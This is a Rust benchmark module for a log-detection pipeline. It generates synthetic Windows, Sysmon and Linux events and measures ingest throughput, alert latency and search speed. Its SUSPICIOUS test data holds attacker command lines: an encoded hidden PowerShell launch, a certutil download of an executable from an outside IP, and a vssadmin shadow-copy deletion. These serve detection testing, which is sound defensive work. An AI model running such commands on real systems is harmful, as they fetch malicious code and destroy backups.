//! `lachan bench ingest`: a realistic mixed stream (Windows Security and Sysmon, Linux
//! auth syslog, journald JSON) pushed through normalise → store → detect → alerts, with
//! throughput, alert latency and memory.

use std::path::Path;
use std::sync::Arc;
use std::sync::atomic::Ordering;
use std::time::{Duration, Instant};

use lachan_sigma::LogEvent;
use lachan_store::Store;
use serde_json::{Value, json};

use super::{Incoming, Pipeline, PipelineError, RulesConfig};

/// What a bench run measured.
#[derive(Debug, Clone)]
pub struct IngestReport {
    pub events: u64,
    pub seconds: f64,
    pub events_per_sec: f64,
    pub p99_alert_ms: f64,
    pub alerts: u64,
    pub detections: u64,
    pub rules_loaded: usize,
    pub rules_load_seconds: f64,
    /// Seconds spent in each stage (summed over batches; stages overlap in time).
    pub stage_seconds: [(&'static str, f64); 4],
    /// Searches over the stored events afterwards: (query, total, milliseconds).
    pub searches: Vec<(String, i64, f64)>,
    /// CPU seconds by thread kind at the end of the ingest run (rules loading included).
    pub cpu: Vec<(String, f64)>,
}

/// Batches being normalised or stored at once.
const IN_FLIGHT: usize = 4;

/// Queries timed after the ingest run (newest 50 with the exact total, as the API does).
const SEARCHES: &[&str] = &[
    "",
    "whoami",
    "host.name:pc-007",
    "event.code:4625 host.name:pc-007",
    "event.dataset:syslog Failed",
    "process.command_line:\"whoami /priv\"",
    "vssadmin shadows",
];

/// Deterministic generator of a mixed event stream.
pub struct StreamGen {
    state: u64,
    n: u64,
}

const USERS: &[&str] = &[
    "nguyen.van.an",
    "tran.thi.binh",
    "le.van.cuong",
    "pham.thi.dung",
    "admin",
    "svc_backup",
];
/// (image, command line, parent image) of everyday processes.
const BENIGN: &[(&str, &str, &str)] = &[
    (
        "C:\\Windows\\System32\\svchost.exe",
        "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule",
        "C:\\Windows\\System32\\services.exe",
    ),
    (
        "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
        "\"WINWORD.EXE\" /n \"C:\\Users\\an\\Documents\\bao-cao-thang-11.docx\"",
        "C:\\Windows\\explorer.exe",
    ),
    (
        "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
        "\"chrome.exe\" --type=renderer --lang=vi",
        "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
    ),
    (
        "C:\\Windows\\System32\\notepad.exe",
        "\"C:\\Windows\\system32\\notepad.exe\" C:\\Users\\an\\Desktop\\ghi-chu.txt",
        "C:\\Windows\\explorer.exe",
    ),
    (
        "C:\\Windows\\explorer.exe",
        "C:\\Windows\\Explorer.EXE",
        "C:\\Windows\\System32\\userinit.exe",
    ),
];
/// (image, command line) an attacker runs from a shell.
const SUSPICIOUS: &[(&str, &str)] = &[
    ("C:\\Windows\\System32\\whoami.exe", "whoami /priv"),
    (
        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA",
    ),
    (
        "C:\\Windows\\System32\\certutil.exe",
        "certutil.exe -urlcache -split -f http://203.0.113.5/a.exe C:\\Users\\Public\\a.exe",
    ),
    (
        "C:\\Windows\\System32\\vssadmin.exe",
        "vssadmin.exe delete shadows /all /quiet",
    ),
];

impl StreamGen {
    pub fn new(seed: u64) -> Self {
        Self {
            state: seed | 1,
            n: 0,
        }
    }

    fn next_u32(&mut self) -> u32 {
        // xorshift64*
        self.state ^= self.state >> 12;
        self.state ^= self.state << 25;
        self.state ^= self.state >> 27;
        (self.state.wrapping_mul(0x2545_f491_4f6c_dd1d) >> 32) as u32
    }

    fn pick<'a, T>(&mut self, xs: &'a [T]) -> &'a T {
        &xs[self.next_u32() as usize % xs.len()]
    }

    /// The next event, as it would arrive (flat Windows form, syslog line or JSON).
    pub fn next_event(&mut self, base: jiff::Timestamp) -> LogEvent {
        self.n += 1;
        let t = base + jiff::SignedDuration::from_millis(self.n as i64);
        let ts = t.to_string();
        let host = format!("pc-{:03}", self.next_u32() % 200);
        let user = *self.pick(USERS);
        let r = self.next_u32() % 100;
        let v: Value = match r {
            0..=29 => {
                let failed = self.next_u32().is_multiple_of(10);
                json!({"Channel": "Security", "EventID": if failed { 4625 } else { 4624 },
                    "Computer": host, "TimeCreated": ts, "TargetUserName": user,
                    "TargetDomainName": "SOTTTT", "LogonType": if failed { 3 } else { 2 },
                    "IpAddress": format!("10.10.{}.{}", self.next_u32() % 20, self.next_u32() % 250),
                    "WorkstationName": host, "LogonProcessName": "User32", "AuthenticationPackageName": "Negotiate"})
            }
            30..=49 | 60..=69 => {
                let (image, cmd, parent) = if self.next_u32() % 1000 < 2 {
                    let (i, c) = *self.pick(SUSPICIOUS);
                    (i, c, "C:\\Windows\\System32\\cmd.exe")
                } else {
                    *self.pick(BENIGN)
                };
                if r < 50 {
                    json!({"Channel": "Microsoft-Windows-Sysmon/Operational", "EventID": 1,
                        "Computer": host, "UtcTime": ts, "Image": image, "CommandLine": cmd,
                        "ParentImage": parent, "User": format!("SOTTTT\\{user}"),
                        "IntegrityLevel": "Medium", "Hashes": "SHA256=5F1A0E8D0B5C2B3A4D9C8E7F6A5B4C3D2E1F0A9B8C7D6E5F4A3B2C1D0E9F8A7B",
                        "ProcessId": self.next_u32() % 60000, "CurrentDirectory": "C:\\Users\\Public\\"})
                } else {
                    json!({"Channel": "Security", "EventID": 4688, "Computer": host,
                        "TimeCreated": ts, "NewProcessName": image, "CommandLine": cmd,
                        "ParentProcessName": parent, "SubjectUserName": user,
                        "TokenElevationType": "%%1938"})
                }
            }
            50..=59 => json!({"Channel": "Microsoft-Windows-Sysmon/Operational", "EventID": 3,
                "Computer": host, "UtcTime": ts, "Image": "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
                "DestinationIp": format!("142.250.{}.{}", self.next_u32() % 255, self.next_u32() % 255),
                "DestinationPort": 443, "Protocol": "tcp", "Initiated": "true", "User": user}),
            70..=89 => {
                let srv = format!("srv-{:02}", self.next_u32() % 30);
                let line = match self.next_u32() % 4 {
                    0 => format!(
                        "<38>{} {srv} sshd[{}]: Failed password for {user} from 198.51.100.{} port {} ssh2",
                        t.strftime("%b %e %H:%M:%S"),
                        self.next_u32() % 30000,
                        self.next_u32() % 250,
                        40000 + self.next_u32() % 20000
                    ),
                    1 => format!(
                        "<38>{} {srv} sshd[{}]: Accepted publickey for {user} from 10.0.0.{} port 51234 ssh2",
                        t.strftime("%b %e %H:%M:%S"),
                        self.next_u32() % 30000,
                        self.next_u32() % 250
                    ),
                    2 => format!(
                        "<86>{} {srv} sudo: {user} : TTY=pts/0 ; PWD=/home/{user} ; USER=root ; COMMAND=/usr/bin/systemctl restart nginx",
                        t.strftime("%b %e %H:%M:%S")
                    ),
                    _ => format!(
                        "<78>{} {srv} CRON[{}]: ({user}) CMD (/usr/local/bin/backup.sh)",
                        t.strftime("%b %e %H:%M:%S"),
                        self.next_u32() % 30000
                    ),
                };
                return lachan_ingest::syslog::parse_line(&line, 2026).with_timestamp(t);
            }
            _ => json!({"@timestamp": ts, "_HOSTNAME": format!("srv-{:02}", self.next_u32() % 30),
                "_SYSTEMD_UNIT": "nginx.service", "SYSLOG_IDENTIFIER": "nginx", "PRIORITY": "6",
                "MESSAGE": format!("10.0.0.{} - - \"GET /portal/tin-tuc/{} HTTP/1.1\" 200 5123", self.next_u32() % 250, self.next_u32() % 5000)}),
        };
        LogEvent::from_json(v)
    }
}

/// Peak resident memory of this process in MiB (Linux), if known.
pub fn peak_rss_mb() -> Option<f64> {
    let s = std::fs::read_to_string("/proc/self/status").ok()?;
    let line = s.lines().find(|l| l.starts_with("VmHWM:"))?;
    let kib: f64 = line.split_whitespace().nth(1)?.parse().ok()?;
    Some(kib / 1024.0)
}

/// CPU seconds this process's threads have used, summed by thread name, most first
/// (Linux; empty elsewhere). Threads that have ended are not counted.
pub fn cpu_by_thread() -> Vec<(String, f64)> {
    let mut by: std::collections::BTreeMap<String, f64> = Default::default();
    let Ok(tasks) = std::fs::read_dir("/proc/self/task") else {
        return Vec::new();
    };
    for t in tasks.flatten() {
        let p = t.path();
        let name = std::fs::read_to_string(p.join("comm")).unwrap_or_default();
        let stat = std::fs::read_to_string(p.join("stat")).unwrap_or_default();
        // Fields after the parenthesised name: state is the first; utime and stime are
        // the 12th and 13th, in clock ticks (100 per second on Linux).
        let Some(rest) = stat.rfind(')').and_then(|i| stat.get(i + 1..)) else {
            continue;
        };
        let f: Vec<&str> = rest.split_whitespace().collect();
        let ticks: f64 = [11, 12]
            .iter()
            .filter_map(|&i| f.get(i).and_then(|v| v.parse::<f64>().ok()))
            .sum();
        // Numbered threads of one kind count together (`lachan-match-0`, `-1` …).
        let kind = name
            .trim()
            .trim_end_matches(|c: char| c.is_ascii_digit() || c == '-');
        *by.entry(kind.to_string()).or_default() += ticks / 100.0;
    }
    let mut v: Vec<(String, f64)> = by.into_iter().collect();
    v.sort_by(|a, b| b.1.total_cmp(&a.1));
    v
}

/// Run `events` generated events through a pipeline on a fresh store in `dir`.
pub async fn run(
    dir: &Path,
    store: Arc<dyn Store>,
    rules: &RulesConfig,
    events: u64,
    batch: usize,
) -> Result<IngestReport, PipelineError> {
    let t_rules = Instant::now();
    let pipeline = Pipeline::open(dir, store, rules).await?;
    let rules_load_seconds = t_rules.elapsed().as_secs_f64();
    let base = jiff::Timestamp::now() - jiff::SignedDuration::from_hours(1);
    let mut generator = StreamGen::new(0x5eed);
    let start = Instant::now();
    let mut sent = 0u64;
    // Several batches in flight, as from several senders at once: while some wait for
    // the writer (which commits those waiting together), others are being normalised.
    let mut inflight: std::collections::VecDeque<
        tokio::task::JoinHandle<Result<Vec<String>, lachan_store::StoreError>>,
    > = std::collections::VecDeque::new();
    while sent < events {
        let n = (events - sent).min(batch as u64);
        let items: Vec<Incoming> = (0..n)
            .map(|_| Incoming {
                event: generator.next_event(base),
                agency: None,
                peer: None,
            })
            .collect();
        sent += n;
        let p = pipeline.clone();
        inflight.push_back(tokio::spawn(async move { p.ingest(items, "bench").await }));
        if inflight.len() >= IN_FLIGHT
            && let Some(h) = inflight.pop_front()
        {
            h.await.map_err(|e| PipelineError::Start(e.to_string()))??;
        }
    }
    for h in inflight {
        h.await.map_err(|e| PipelineError::Start(e.to_string()))??;
    }
    while pipeline.stats.analysed.load(Ordering::Relaxed) < events {
        tokio::time::sleep(Duration::from_millis(5)).await;
    }
    let seconds = start.elapsed().as_secs_f64();
    // Before anything shuts down: threads that have ended are not counted.
    let cpu = cpu_by_thread();
    let mut searches = Vec::new();
    for q in SEARCHES {
        let (words, filters) =
            lachan_store::EventQuery::parse_q(q).map_err(PipelineError::Start)?;
        let query = lachan_store::EventQuery {
            scope: lachan_core::auth::Scope::All,
            words,
            filters,
            from_ms: None,
            to_ms: None,
            limit: 50,
            offset: 0,
        };
        let t = Instant::now();
        let page = pipeline.events().search_events(&query).await?;
        searches.push((
            q.to_string(),
            page.total,
            t.elapsed().as_secs_f64() * 1000.0,
        ));
    }
    let s = &pipeline.stats;
    Ok(IngestReport {
        events,
        seconds,
        events_per_sec: events as f64 / seconds,
        p99_alert_ms: pipeline.latency.percentile(99.0).unwrap_or(0) as f64 / 1000.0,
        alerts: s.alerts_opened.load(Ordering::Relaxed),
        detections: s.detections.load(Ordering::Relaxed),
        rules_loaded: pipeline.rule_counts.0,
        rules_load_seconds,
        stage_seconds: [
            (
                "normalise",
                s.normalize_us.load(Ordering::Relaxed) as f64 / 1e6,
            ),
            ("store", s.store_us.load(Ordering::Relaxed) as f64 / 1e6),
            ("match", s.match_us.load(Ordering::Relaxed) as f64 / 1e6),
            ("alerts", s.alert_us.load(Ordering::Relaxed) as f64 / 1e6),
        ],
        searches,
        cpu,
    })
}

#[cfg(test)]
#[allow(clippy::unwrap_used)]
mod tests {
    use super::*;

    #[test]
    fn stream_is_mixed_and_deterministic() {
        let base: jiff::Timestamp = "2026-12-01T00:00:00Z".parse().unwrap();
        let mut a = StreamGen::new(7);
        let mut b = StreamGen::new(7);
        let mut channels = std::collections::HashSet::new();
        for _ in 0..2000 {
            let (x, y) = (a.next_event(base), b.next_event(base));
            assert_eq!(x.fields(), y.fields());
            channels.insert(x.channel().unwrap_or("json").to_string());
        }
        for c in [
            "Security",
            "Microsoft-Windows-Sysmon/Operational",
            "syslog",
            "json",
        ] {
            assert!(channels.contains(c), "{c} missing from {channels:?}");
        }
    }
}
